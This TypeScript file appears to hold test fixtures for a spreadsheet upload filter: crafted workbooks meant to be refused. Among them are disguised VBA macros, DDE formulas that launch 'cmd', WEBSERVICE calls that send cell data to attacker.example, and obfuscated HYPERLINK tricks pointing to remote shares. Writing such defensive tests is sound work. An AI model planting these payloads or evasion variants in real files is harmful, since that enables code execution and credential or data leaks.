import { harmless, refused, type FileSample } from './FileSample.ts'
import { contentTypes, part, relation, sheetMain, workbookFile } from './workbookFile.ts'

const ole = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1024)])
const macroSheet = 'application/vnd.ms-excel.sheet.macroEnabled.main+xml'
const vba = 'http://schemas.microsoft.com/office/2006/relationships/vbaProject'
const spreadsheet = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'

const macros = (name: string, type: string) =>
  workbookFile({ types: type, relations: relation('rId9', vba, name.replace(/^xl\//, '')), more: [part(name, ole)] })

const override = (name: string, type: string) => `<Override PartName="/${name}" ContentType="${type}"/>`
const vbaType = 'application/vnd.ms-office.vbaProject'

const withLink = (body: string, target: string) =>
  workbookFile({
    types: override(
      'xl/externalLinks/externalLink1.xml',
      'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml',
    ),
    relations: relation('rId9', 'externalLink', 'externalLinks/externalLink1.xml'),
    more: [
      part('xl/externalLinks/externalLink1.xml', `<externalLink ${spreadsheet}>${body}</externalLink>`),
      part(
        'xl/externalLinks/_rels/externalLink1.xml.rels',
        `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relation('rId1', 'externalLinkPath', target, true)}</Relationships>`,
      ),
    ],
  })

const formula = (text: string) => workbookFile({ cells: `<row r="1"><c r="A1"><f>${text}</f><v>0</v></c></row>` })

const macroFiles: FileSample[] = [
  refused('a workbook with macros', 'a.xlsx', () =>
    macros('xl/vbaProject.bin', override('xl/vbaProject.bin', vbaType)),
  ),
  refused('a workbook with macros in capitals', 'a.xlsx', () =>
    macros('xl/VBAPROJECT.bin', override('xl/VBAPROJECT.bin', vbaType)),
  ),
  refused('a workbook with macros under another name', 'a.xlsx', () =>
    macros('xl/theme/theme9.dat', override('xl/theme/theme9.dat', vbaType)),
  ),
  refused('a workbook with macros whose type is given by their ending', 'a.xlsx', () =>
    macros('xl/colours.cfg', `<Default Extension="cfg" ContentType="${vbaType}"/>`),
  ),
  refused('a workbook with macros that nothing declares', 'a.xlsx', () =>
    workbookFile({ more: [part('XL/vbaproject.BIN', ole)] }),
  ),
  refused('a workbook with macros, its type an entity of XML', 'a.xlsx', () =>
    macros('xl/a.cfg', override('xl/a.cfg', 'application/vnd.ms-office.&#118;baProject')),
  ),
  refused('a workbook of the type with macros', 'a.xlsx', () => workbookFile({ main: macroSheet })),
  refused('a workbook of the type with macros, in capitals', 'a.xlsx', () =>
    workbookFile({ main: macroSheet.toUpperCase() }),
  ),
  refused('a workbook whose types are written in UTF-16', 'a.xlsx', () =>
    workbookFile({
      instead: {
        '[Content_Types].xml': Buffer.from(
          `\uFEFF${contentTypes(macroSheet, override('xl/a.cfg', vbaType)).replace('UTF-8', 'UTF-16')}`,
          'utf16le',
        ),
      },
      more: [part('xl/a.cfg', ole)],
    }),
  ),
  refused('a workbook with a sheet of old macros', 'a.xlsx', () =>
    workbookFile({
      types: override('xl/sheets/sheet2.xml', 'application/vnd.ms-excel.macrosheet+xml'),
      relations: relation(
        'rId9',
        'http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet',
        'sheets/sheet2.xml',
      ),
      more: [
        part('xl/sheets/sheet2.xml', `<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>`),
      ],
    }),
  ),
  refused('a workbook with buttons that call macros', 'a.xlsx', () =>
    workbookFile({
      more: [
        part(
          'customUI/customUI.xml',
          '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="Run"/>',
        ),
      ],
    }),
  ),
  refused('a workbook with ActiveX controls', 'a.xlsx', () =>
    workbookFile({
      types: override('xl/activeX/activeX1.xml', 'application/vnd.ms-office.activeX+xml'),
      sheetRelations: relation('rId1', 'control', '../activeX/activeX1.xml'),
      more: [part('xl/activeX/activeX1.xml', '<ax:ocx xmlns:ax="x"/>'), part('xl/activeX/activeX1.bin', ole)],
    }),
  ),
]

const reachingOut: FileSample[] = [
  refused('a workbook that reads another workbook over the network', 'a.xlsx', () =>
    withLink(
      '<externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/>',
      'https://attacker.example/a.xlsx',
    ),
  ),
  refused('a workbook that reads a file of a foreign machine', 'a.xlsx', () =>
    withLink(
      '<externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/>',
      'file:///\\\\attacker\\share\\a.xlsx',
    ),
  ),
  refused('a workbook with a line to another program', 'a.xlsx', () =>
    withLink('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>', 'x'),
  ),
  refused('a workbook whose formula calls another program', 'a.xlsx', () => formula("cmd|'/c calc'!A0")),
  refused('a workbook whose formula fetches an address', 'a.xlsx', () =>
    formula('_xlfn.WEBSERVICE("https://attacker.example/?"&amp;B1)'),
  ),
  refused('a workbook whose formula links to a share', 'a.xlsx', () =>
    formula('HYPERLINK("\\\\attacker\\share\\a.exe")'),
  ),
  refused('a workbook whose formula links to a share with a text to press', 'a.xlsx', () =>
    formula('IF(A2&gt;0,hyperlink ( "\\\\attacker\\share\\a.exe" , "6204"),"")'),
  ),
  refused('a workbook whose formula links to a file', 'a.xlsx', () => formula('HYPERLINK("file:///C:/a.exe","6204")')),
  refused('a workbook whose formula links to a share of the web', 'a.xlsx', () =>
    formula('HYPERLINK("//attacker/share/a.exe")'),
  ),
  refused('a workbook whose formula makes the address of a share', 'a.xlsx', () =>
    formula('HYPERLINK(CHAR(92)&amp;CHAR(92)&amp;"attacker\\share\\a.exe")'),
  ),
  refused('a workbook whose formula makes the address of a share of two texts', 'a.xlsx', () =>
    formula('HYPERLINK("\\"&amp;"\\attacker\\share\\a.exe")'),
  ),
  refused('a workbook whose formula links to what a cell says', 'a.xlsx', () =>
    workbookFile({
      cells:
        '<row r="1"><c r="A1" t="inlineStr"><is><t>\\\\attacker\\share\\a.exe</t></is></c><c r="B1"><f>HYPERLINK(A1,"6204")</f><v>0</v></c></row>',
    }),
  ),
  refused('a workbook whose formula gives the link another name', 'a.xlsx', () =>
    formula('_xlfn.LET(_xlpm.h,HYPERLINK,_xlpm.h("\\\\attacker\\share\\a.exe"))'),
  ),
  refused('a workbook with a good link before one to a share', 'a.xlsx', () =>
    formula('HYPERLINK("https://example.com/")&amp;HYPERLINK("\\\\attacker\\share\\a.exe")'),
  ),
  refused('a workbook with a link to a share between two texts', 'a.xlsx', () =>
    formula('"HYPERLINK"&amp;HYPERLINK("\\\\attacker\\share\\a.exe")&amp;"HYPERLINK"'),
  ),
  refused('a workbook whose formula has an element in its middle', 'a.xlsx', () =>
    formula('HYPER<x/>LINK("\\\\attacker\\share\\a.exe")'),
  ),
  refused('a workbook whose name is a link to a share', 'a.xlsx', () =>
    workbookFile({
      instead: {
        'xl/workbook.xml': `<workbook ${spreadsheet} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets><definedNames><definedName name="a">HYPERLINK("\\\\attacker\\share\\a.exe")</definedName></definedNames></workbook>`,
      },
    }),
  ),
  refused('a workbook whose note shows a picture of a share', 'a.xlsx', () =>
    workbookFile({
      sheetRelations: relation('rId2', 'vmlDrawing', '../drawings/vmlDrawing1.vml'),
      more: [
        part(
          'xl/drawings/vmlDrawing1.vml',
          '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape id="a"><v:imagedata src="\\\\attacker\\share\\a.png"/></v:shape></xml>',
        ),
      ],
    }),
  ),
  refused('a workbook with a line to a database', 'a.xlsx', () =>
    workbookFile({
      types: override(
        'xl/connections.xml',
        'application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml',
      ),
      relations: relation('rId9', 'connections', 'connections.xml'),
      more: [
        part(
          'xl/connections.xml',
          `<connections ${spreadsheet}><connection id="1" type="4"><webPr url="https://attacker.example/"/></connection></connections>`,
        ),
      ],
    }),
  ),
  refused('a workbook whose picture is fetched', 'a.xlsx', () =>
    workbookFile({
      sheetRelations: relation('rId1', 'drawing', '../drawings/drawing1.xml'),
      more: [
        part(
          'xl/drawings/drawing1.xml',
          '<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"/>',
        ),
        part(
          'xl/drawings/_rels/drawing1.xml.rels',
          `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relation('rId1', 'image', 'https://attacker.example/a.png', true)}</Relationships>`,
        ),
      ],
    }),
  ),
  refused('a workbook with a link to a file of a foreign machine', 'a.xlsx', () =>
    workbookFile({
      sheetRelations: relation('rId1', 'hyperlink', 'file:///\\\\attacker\\share\\a.exe', true),
      afterRows: '<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks>',
    }),
  ),
]

const carrying: FileSample[] = [
  refused('a workbook with an object of another program', 'a.xlsx', () =>
    workbookFile({
      types: '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
      sheetRelations: relation('rId1', 'oleObject', '../embeddings/oleObject1.bin'),
      more: [part('xl/embeddings/oleObject1.bin', ole)],
    }),
  ),
  refused('a workbook with a document in it', 'a.xlsx', () =>
    workbookFile({
      sheetRelations: relation('rId1', 'package', '../embeddings/a.docm'),
      more: [part('xl/embeddings/a.docm', 'PK\u0003\u0004')],
    }),
  ),
  refused('a workbook with a program in it', 'a.xlsx', () =>
    workbookFile({ more: [part('xl/media/image1.exe', 'MZ\u0090')] }),
  ),
  refused('a workbook with a page in it', 'a.xlsx', () =>
    workbookFile({ more: [part('index.html', '<script>alert(1)</script>')] }),
  ),
  refused('a binary workbook', 'a.xlsx', () =>
    workbookFile({ main: 'application/vnd.ms-excel.sheet.binary.macroEnabled.main' }),
  ),
  refused('a text document under the name of a workbook', 'a.xlsx', () =>
    workbookFile({ main: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml' }),
  ),
  harmless('a workbook under the name of one with macros', 'a.xlsm', () => workbookFile({ main: sheetMain })),
]

export const actingWorkbooks: FileSample[] = [...macroFiles, ...reachingOut, ...carrying]
